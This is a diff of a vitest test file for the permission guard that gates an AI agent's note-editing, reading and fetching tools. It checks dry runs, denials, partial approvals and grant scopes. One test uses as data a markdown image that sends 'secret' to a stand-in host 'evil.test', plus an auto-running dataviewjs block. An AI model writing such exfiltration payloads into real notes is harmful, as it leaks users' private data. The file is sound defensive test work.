@@ -1,9 +1,9 @@
 import fc from 'fast-check'
 import { describe, expect, it } from 'vitest'
-import { sent, setUp, webFetch } from '../../../test/guarded-tools.js'
+import { sent, setUp, webFetch } from '../../../test/tools/guarded-tools.js'
 import { writeNote } from '../tools/file/write-note.js'
 import { type ProposedCall, type Registry, runTool, type Tool, type ToolContext } from '../tools/index.js'
-import { type ApprovalAnswer, memoryGrants } from './index.js'
+import { type ApprovalAnswer, type ApprovalEvent, memoryGrants } from './index.js'
 
 const yes: ApprovalAnswer = { verdict: 'allow' }
 const no: ApprovalAnswer = { verdict: 'deny' }
@@ -12,7 +12,7 @@ const edit = (from: string, to: string) => ({ path: 'Inbox/A.md', old_text: from
 describe('a dry run', () => {
   const rename = { path: 'Projects/Plan.md', new_path: 'Projects/Map.md' }
 
-  it('tells nothing of a change that would touch what may not be read, and asks nobody about the rest', async () => {
+  it('reveals nothing of a change to notes that may not be read, and does not ask about the rest', async () => {
     const desk = await setUp({ rules: ['deny: reads(folder:Journal)'], answers: [no] })
     const { tools, guard, log, context } = desk
     const setup = { registry: tools, context, guard, log, apply: context.apply, dryRun: true }
@@ -33,7 +33,7 @@ describe('a dry run', () => {
 })
 
 describe('a call that asks', () => {
-  it('happens on a yes, and the person has seen what happens', async () => {
+  it('happens on a yes, and the user has seen what happens', async () => {
     const desk = await setUp({ answers: [yes] })
     expect(await desk.call('edit_note', edit('beta', 'BETA'))).toMatchObject({ ok: true })
     expect(desk.text('Inbox/A.md')).toBe('alpha\n\nBETA\n\ngamma\n')
@@ -42,7 +42,7 @@ describe('a call that asks', () => {
         kind: 'call',
         tool: { name: 'edit_note', source: 'built-in' },
         input: edit('beta', 'BETA'),
-        reasons: ['The consent level is ask, and edit_note changes notes.'],
+        reasons: ["This edits a note, so I'm asking first."],
         notes: [{ path: 'Inbox/A.md', access: 'writes' }],
         scopes: ['once', 'change-set', 'session', 'always'],
         offers: [
@@ -57,7 +57,7 @@ describe('a call that asks', () => {
     expect(desk.log.calls).toMatchObject([{ decision: 'approved', rule: 'person' }])
   })
 
-  it('does not happen on a no, in the words of the seed, with those of the person', async () => {
+  it('does not happen on a no, in the words of the seed, with those of the user', async () => {
     const desk = await setUp({ answers: [no, no, { verdict: 'deny', words: 'not my inbox' }] })
     const before = desk.context.memory.snapshot()
     expect((await desk.call('edit_note', edit('beta', 'BETA'))).text).toBe('User cancelled tool execution')
@@ -69,11 +69,45 @@ describe('a call that asks', () => {
     expect(desk.log.calls.map(({ decision }) => decision)).toEqual(['denied', 'denied', 'denied'])
   })
 
+  it('leaves no change and nothing sent in the log when it is denied or a dry run', async () => {
+    const desk = await setUp({ answers: [no] })
+    const { tools, guard, log, context } = desk
+    const calls: [string, unknown][] = [
+      ['edit_note', edit('beta', 'BETA')],
+      ['web_fetch', { url: 'https://a.test/?q=secret' }],
+    ]
+    for (const [name, input] of calls) {
+      await desk.call(name, input)
+      await runTool(
+        { id: 'r', name, input },
+        { registry: tools, context, guard, log, apply: context.apply, dryRun: true },
+      )
+    }
+    expect(log.calls.map(({ decision }) => decision)).toEqual(['denied', 'dry-run', 'denied', 'dry-run'])
+    for (const call of log.calls) {
+      expect(call.change_set).toBeUndefined()
+      expect(call.egress).toBeUndefined()
+    }
+  })
+
+  it('is refused with advice for the model, and in the words of a user', async () => {
+    const desk = await setUp({ answers: [no, { ...no, words: 'not my inbox' }] })
+    for (const turn of ['t1', 't2']) {
+      const refused = await desk.call('edit_note', edit('beta', 'BETA'), { turn })
+      expect(refused).toMatchObject({ code: 'denied', forUser: 'You denied this.' })
+      expect(refused).toMatchObject({ text: expect.stringMatching(/^User cancelled tool execution/) })
+    }
+  })
+
   it('is not asked twice in a turn once refused', async () => {
     const desk = await setUp({ answers: [no] })
     await desk.call('edit_note', edit('beta', 'BETA'))
     const again = await desk.call('edit_note', edit('beta', 'BETA'))
-    expect(again).toMatchObject({ code: 'denied', hint: expect.stringContaining('already refused') })
+    expect(again).toMatchObject({
+      code: 'denied',
+      forUser: 'You denied this.',
+      modelHint: expect.stringContaining('already denied'),
+    })
     expect(desk.asked).toHaveLength(1)
     await desk.call('edit_note', edit('beta', 'BETA'), { turn: 't2' })
     expect(desk.asked).toHaveLength(2)
@@ -90,15 +124,39 @@ describe('a call that asks', () => {
     })
     const result = await desk.call('edit_note', edit('beta', 'BETA'))
     expect(result).toMatchObject({ ok: false, code: 'conflict' })
-    expect(result.text).toContain('changed since preview')
+    expect(result.text).toContain('changed since the preview')
     expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\ntheirs\n')
   })
 
-  it('can be narrowed to some hunks, and the model is told', async () => {
+  it.each<[string, ApprovalAnswer, Partial<ApprovalEvent>]>([
+    ['all hunks', { verdict: 'allow', hunks: [{ change: 0, hunks: [0, 1] }] }, { verdict: 'allow' }],
+    [
+      'one hunk of two',
+      { verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] },
+      { verdict: 'allow', part: { of: 'changes', allowed: 1, all: 2 } },
+    ],
+    ['no hunk', { verdict: 'allow', hunks: [{ change: 0, hunks: [] }] }, { verdict: 'deny' }],
+    [
+      'other arguments',
+      { verdict: 'allow', input: { path: 'Inbox/B.md', content: 'x' } },
+      { verdict: 'allow', edited: true },
+    ],
+  ])('is reported as what was allowed: %s', async (_name, answer, decided) => {
+    const desk = await setUp({ answers: [answer, no] })
+    await desk.call('write_note', { path: 'Inbox/A.md', content: 'ALPHA\n\nbeta\n\nGAMMA\n' })
+    expect(desk.events.find(({ type }) => type === 'approval-decided')).toEqual({
+      type: 'approval-decided',
+      id: expect.any(String),
+      by: 'person',
+      ...decided,
+    })
+  })
+
+  it('can be narrowed to some hunks, and the model learns of it', async () => {
     const desk = await setUp({ answers: [{ verdict: 'allow', hunks: [{ change: 0, hunks: [1] }] }] })
     const result = await desk.call('write_note', { path: 'Inbox/A.md', content: 'ALPHA\n\nbeta\n\nGAMMA\n' })
-    expect(result).toMatchObject({ ok: true, userEdited: true })
-    expect(result.text).toContain('The user accepted 1 of 2 hunks; the others were not written.')
+    expect(result).toMatchObject({ ok: true, userEdited: true, inPart: true })
+    expect(result.text).toContain('The user accepted 1 of 2 changes in the diff. The others were not written.')
     expect(result.text).toContain('Done in part: Overwrite Inbox/A.md.')
     expect(result.text).not.toContain('successfully')
     expect(desk.log.calls[0].result).toBe('in part: Overwrite Inbox/A.md')
@@ -154,7 +212,7 @@ describe('a call that asks', () => {
     expect(desk.text('Inbox/A.md')).toBe('ALPHA\n\nbeta\n\nGAMMA\n')
   })
 
-  it('is understood and asked anew when the person changes its arguments', async () => {
+  it('is proposed and asked again when the user changes its arguments', async () => {
     const desk = await setUp({ answers: [{ verdict: 'allow', input: edit('beta', 'B') }, yes] })
     const result = await desk.call('edit_note', edit('beta', 'BETA'))
     expect(result).toMatchObject({ ok: true, userEdited: true })
@@ -177,12 +235,13 @@ describe('a call that asks', () => {
     const result = await desk.call('edit_note', edit('beta', 'BETA'))
     expect(result).toMatchObject({
       code: 'needs-approval',
-      hint: 'This rule would let it pass: allow: edit_note(Inbox/A.md)',
+      text: expect.stringContaining('Not done: this edits a note, which needs approval. '),
+      hint: 'To allow it in advance, add the rule: allow: edit_note(Inbox/A.md)',
     })
     const locked = await setUp({ level: 'locked', answers: [yes] })
     expect(await locked.call('rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/P.md' })).toMatchObject({
       code: 'needs-approval',
-      hint: 'This rule would let it pass: allow: rename_note',
+      hint: 'To allow it in advance, add the rule: allow: rename_note',
     })
     expect(locked.asked).toEqual([])
   })
@@ -236,7 +295,7 @@ describe('text that other programs would run', () => {
     const locked = await setUp({ level: 'locked', rules: ['allow: write_note'] })
     expect(await locked.call('write_note', { path: 'New.md', content: script })).toMatchObject({
       code: 'needs-approval',
-      hint: 'No rule can allow this in advance: a person must say yes.',
+      hint: 'No rule can allow this in advance.',
     })
   })
 })
@@ -250,7 +309,7 @@ it('the second question is about what the first has left', async () => {
   expect(desk.text('Inbox/A.md')).toBe('alpha\n\nbeta\n\n```dataviewjs\n1\n```\n')
 })
 
-it('arguments changed in the second question are asked about anew, from the first', async () => {
+it('arguments changed in the second question are asked about again, from the first question on', async () => {
   const content = 'Hello\n\n```dataviewjs\n1\n```\n'
   const desk = await setUp({ answers: [yes, { verdict: 'allow', input: { path: 'New.md', content: 'Hello' } }, yes] })
   expect(await desk.call('write_note', { path: 'New.md', content })).toMatchObject({ ok: true, userEdited: true })
@@ -265,7 +324,7 @@ it('arguments changed in the second question are asked about anew, from the firs
 describe('sharing notes', () => {
   const both = { filePaths: ['Inbox/A.md', 'Projects/Plan.md'] }
 
-  it('gives the model what the person picked, and only that', async () => {
+  it('gives the model what the user picked, and only that', async () => {
     const desk = await setUp({ answers: [{ verdict: 'allow', picked: ['Inbox/A.md'] }] })
     const result = await desk.call('file_read', both)
     expect(desk.asked[0].pick).toEqual(['Inbox/A.md', 'Projects/Plan.md'])
@@ -282,12 +341,12 @@ describe('sharing notes', () => {
     const locked = await setUp({ level: 'locked' })
     expect(await locked.call('file_read', both)).toMatchObject({
       code: 'needs-approval',
-      hint: 'This rule would share all of them without asking: allow: file_read',
+      hint: 'To share all of them without asking, add the rule: allow: file_read',
     })
   })
 })
 
-describe('what the person remembers', () => {
+describe('what the user remembers', () => {
   it('for the session passes without asking, until it is revoked', async () => {
     const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'session', rule: 'edit_note(Inbox/**)' }, no] })
     await desk.call('edit_note', edit('beta', 'BETA'))
@@ -303,7 +362,7 @@ describe('what the person remembers', () => {
     expect(await desk.call('edit_note', edit('alpha', 'ALPHA'), { turn: 't2' })).toMatchObject({ code: 'denied' })
   })
 
-  it('for always is kept as the literal rule, the narrowest unless told', async () => {
+  it('for always is kept as the literal rule, by default the narrowest', async () => {
     const grants = memoryGrants()
     const desk = await setUp({ grants, answers: [{ verdict: 'allow', scope: 'always' }] })
     await desk.call('edit_note', edit('beta', 'BETA'))
@@ -315,14 +374,73 @@ describe('what the person remembers', () => {
     })
   })
 
-  it('for this change set lasts for its notes and its turn', async () => {
-    const desk = await setUp({ answers: [{ verdict: 'allow', scope: 'change-set' }, no] })
-    await desk.call('edit_note', edit('beta', 'BETA'))
-    expect(await desk.call('edit_note', edit('gamma', 'GAMMA'))).toMatchObject({ ok: true })
-    expect(
-      await desk.call('edit_note', { path: 'Projects/Plan.md', old_text: 'plan', new_text: 'plot' }),
-    ).toMatchObject({ ok: false })
-    expect(await desk.call('edit_note', edit('alpha', 'ALPHA'), { turn: 't2' })).toMatchObject({ ok: false })
+  describe('for all of this turn', () => {
+    const allOfTurn: ApprovalAnswer = { verdict: 'allow', scope: 'change-set' }
+    const write = (path: string, content = 'x') => ['write_note', { path, content }] as const
+
+    it.each<[string, ...(readonly [string, unknown])[]]>([
+      [
+        'edit_note',
+        ['edit_note', edit('beta', 'B')],
+        ['edit_note', { ...edit('plan', 'plot'), path: 'Projects/Plan.md' }],
+      ],
+      ['write_note', write('Inbox/New.md'), write('Projects/New.md'), write('Inbox/A.md'), write('Root.md')],
+      ['write_note of a very large note', write('Inbox/New.md'), write('Inbox/Book.md', 'word '.repeat(10_000))],
+      [
+        'append_note',
+        ['append_note', { path: 'Inbox/A.md', content: 'x' }],
+        ['append_note', { path: 'Clip.md', content: 'y' }],
+      ],
+      ['delete_note', ['delete_note', { path: 'Clip.md' }], ['delete_note', { path: 'Inbox/A.md' }]],
+      [
+        'rename_note',
+        ['rename_note', { path: 'Clip.md', new_path: 'Clip 2.md' }],
+        ['rename_note', { path: 'Projects/Plan.md', new_path: 'Projects/Map.md' }],
+      ],
+    ])('covers every further call of the tool: %s', async (_name, ...calls) => {
+      const desk = await setUp({ answers: [allOfTurn, no] })
+      for (const [name, input] of calls) expect(await desk.call(name, input)).toMatchObject({ ok: true })
+      expect(desk.asked).toHaveLength(1)
+    })
+
+    it('covers no other tool and no other turn', async () => {
+      const desk = await setUp({ answers: [allOfTurn, no] })
+      await desk.call('edit_note', edit('beta', 'BETA'))
+      expect(await desk.call('delete_note', { path: 'Clip.md' })).toMatchObject({ code: 'denied' })
+      expect(await desk.call('edit_note', edit('alpha', 'ALPHA'), { turn: 't2' })).toMatchObject({ code: 'denied' })
+      expect(desk.asked).toHaveLength(3)
+    })
+
+    it('also covers calls that were already waiting, in other folders', async () => {
+      const desk = await setUp({ answers: [allOfTurn, no] })
+      const paths = ['Inbox/1.md', 'Projects/2.md', '3.md']
+      const results = await Promise.all(paths.map((path) => desk.call(...write(path))))
+      expect(results.map(({ ok }) => ok)).toEqual([true, true, true])
+      expect(desk.asked).toHaveLength(1)
+    })
+
+    it('overrides neither a rule that denies nor a rule that asks', async () => {
+      const rules = ['deny: writes(folder:Journal)', 'ask: writes(folder:Projects)']
+      const desk = await setUp({ rules, answers: [allOfTurn, no] })
+      expect(await desk.call(...write('Inbox/New.md'))).toMatchObject({ ok: true })
+      expect(await desk.call(...write('Journal/New.md'))).toMatchObject({ code: 'denied' })
+      expect(desk.asked).toHaveLength(1)
+      expect(await desk.call(...write('Projects/New.md'))).toMatchObject({ code: 'denied' })
+      expect(desk.asked).toHaveLength(2)
+    })
+
+    it('overrides nothing that asks because of what was read, runs or shows', async () => {
+      const desk = await setUp({ answers: [allOfTurn, no] })
+      expect(await desk.call(...write('Inbox/New.md'))).toMatchObject({ ok: true })
+      await desk.call('read_note', { path: 'Clip.md' })
+      await desk.call('read_note', { path: 'Inbox/A.md' })
+      const texts = ['![](http://evil.test/?d=secret)', '```dataviewjs\ndv.current()\n```', '---\npublish: true\n---\n']
+      for (const [at, text] of texts.entries()) {
+        expect([text, await desk.call(...write(`Inbox/${at}.md`, text))]).toMatchObject([text, { code: 'denied' }])
+      }
+      expect(desk.asked).toHaveLength(1 + texts.length)
+      expect(await desk.call(...write('Inbox/Plain.md'))).toMatchObject({ ok: true })
+    })
   })
 
   it('never overrides a rule that asks, and nothing is offered to remember then', async () => {
@@ -330,7 +448,7 @@ describe('what the person remembers', () => {
     const desk = await setUp({ grants, rules: ['ask: edit_note(Inbox/**)'], answers: [yes] })
     await desk.call('edit_note', edit('beta', 'BETA'))
     expect(desk.asked).toMatchObject([
-      { scopes: ['once'], offers: [], reasons: ['A rule asks for it: edit_note(Inbox/**).'] },
+      { scopes: ['once'], offers: [], reasons: ['A rule requires approval: edit_note(Inbox/**).'] },
     ])
   })
 
@@ -462,12 +580,12 @@ describe('what was approved is what happens', () => {
         },
       ],
     })
-    expect(await desk.guard.rule(call, desk.context)).toMatchObject({
+    expect(await desk.guard.decide(call, desk.context)).toMatchObject({
       verdict: 'deny',
       code: 'conflict',
-      reason: 'The call was altered after it was shown.',
+      reason: 'The call changed after it was shown, so nothing was done.',
     })
-    expect(await desk.guard.rule(fetching(), desk.context)).toMatchObject({ verdict: 'allow', decision: 'approved' })
+    expect(await desk.guard.decide(fetching(), desk.context)).toMatchObject({ verdict: 'allow', loggedAs: 'approved' })
   })
 
   it('whatever changes while the panel is open: a note, another note, the call itself', async () => {
